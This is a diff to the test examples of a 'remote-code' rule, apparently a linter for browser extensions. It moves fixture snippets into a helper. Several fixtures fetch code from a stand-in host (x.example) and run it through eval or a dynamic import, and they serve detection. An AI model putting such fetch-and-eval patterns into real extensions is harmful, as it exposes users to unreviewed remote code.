@@ -2,7 +2,7 @@ import { apiPath, constant, listOf, nameOf, Op, resolve, type ScriptFacts } from
 import { isNumberText } from '../../flows/isNumberText.ts';
 import { rolesOf } from '../../facts/extension/roles.ts';
 import type { Facts } from '../../facts.ts';
-import { defineRule, type Hit } from '../../rule.ts';
+import { defineRule, type Example, type Hit } from '../../rule.ts';
 import { backgroundExample, checkScripts, contentExample, type Judged } from './checkScripts.ts';
 import { codeRunsOf, type CodeRun, type RunKind } from './codeRuns.ts';
 import { isMostlyOwn } from './isMostlyOwn.ts';
@@ -15,6 +15,18 @@ const CERTAIN: ReadonlySet<RunKind> = new Set(['eval', 'function', 'callback', '
 
 /** Values of a script from which on it is taken for a library or a bundle. */
 const LIBRARY = 2000;
+
+/** A library that can run what a server sends, and what a package does with it. */
+const withLibrary = (use: string): Example => ({
+  files: {
+    'manifest.json':
+      '{"manifest_version": 2, "name": "Example", "version": "1.0", "browser_action": {"default_popup": "p.html"}}',
+    'p.html': '<p id="t"></p><script src="lib/edit.js"></script><script src="p.js"></script>',
+    'lib/edit.js':
+      '$.fn.edit = function (options) { const settings = $.extend({}, { width: 10 }, options); if (settings.loadurl) $.ajax({ url: settings.loadurl, success: (text) => { eval("var json = " + text); show(json); } }); };',
+    'p.js': use,
+  },
+});
 
 export const remoteCode = defineRule({
   id: 'remote-code',
@@ -71,19 +83,6 @@ export const remoteCode = defineRule({
   }),
   examples: {
     bad: [
-      {
-        files: {
-          'manifest.json':
-            '{"manifest_version": 2, "name": "Example", "version": "1.0", "browser_action": {"default_popup": "p.html"}}',
-          'p.html': '<p id="t"></p><script src="lib/edit.js"></script><script src="p.js"></script>',
-          'lib/edit.js':
-            '$.fn.edit = function (options) { const settings = $.extend({}, { width: 10 }, options); if (settings.loadurl) $.ajax({ url: settings.loadurl, success: (text) => { eval("var json = " + text); show(json); } }); };',
-          'p.js': '$("#t").edit({ loadurl: "https://x.example/t" });',
-        },
-      },
-      backgroundExample(
-        'fetch("https://x.example/c").then((r) => r.json()).then((c) => fetch(c.nextpart)).then((r) => r.text()).then(eval);',
-      ),
       backgroundExample('fetch("https://x.example/a.js").then((r) => r.text()).then(eval);'),
       backgroundExample('fetch("https://x.example/a").then((r) => r.text()).then((t) => { eval(t); });'),
       backgroundExample(
@@ -148,18 +147,13 @@ export const remoteCode = defineRule({
       contentExample(
         '(async () => { const { effect } = await (await fetch("https://x.example/s.json")).json(); await import(`data:text/javascript;charset=utf-8,${encodeURIComponent(effect)}`); })();',
       ),
+      backgroundExample(
+        'fetch("https://x.example/c").then((r) => r.json()).then((c) => fetch(c.nextpart)).then((r) => r.text()).then(eval);',
+      ),
+      withLibrary('$("#t").edit({ loadurl: "https://x.example/t" });'),
     ],
     good: [
-      {
-        files: {
-          'manifest.json':
-            '{"manifest_version": 2, "name": "Example", "version": "1.0", "browser_action": {"default_popup": "p.html"}}',
-          'p.html': '<p id="t"></p><script src="lib/edit.js"></script><script src="p.js"></script>',
-          'lib/edit.js':
-            '$.fn.edit = function (options) { const settings = $.extend({}, { width: 10 }, options); if (settings.loadurl) $.ajax({ url: settings.loadurl, success: (text) => { eval("var json = " + text); show(json); } }); };',
-          'p.js': '$("#t").edit({ width: 20 });',
-        },
-      },
+      withLibrary('$("#t").edit({ width: 20 });'),
       contentExample(
         'const run = (data) => { const s = document.createElement("script"); s.textContent = "start([" + new Uint8Array(data).toString() + "])"; document.body.append(s); }; fetch("https://api.example.com/p").then((r) => r.arrayBuffer()).then(run);',
       ),
